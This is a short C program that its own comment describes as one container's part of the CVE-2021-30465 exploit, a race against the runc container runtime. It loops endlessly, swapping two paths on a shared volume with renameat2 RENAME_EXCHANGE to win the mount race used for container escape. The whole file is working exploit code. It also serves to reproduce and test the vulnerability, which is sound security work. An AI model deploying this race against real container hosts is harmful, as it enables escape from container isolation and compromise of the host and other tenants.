/* SPDX-License-Identifier: Apache-2.0 */
/* The other container of CVE-2021-30465: race A B exchanges two names of a shared volume for ever (renameat2(2)). */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>

int main(int argc, char **argv)
{
	while (argc == 3)
		renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE);
	return 2;
}
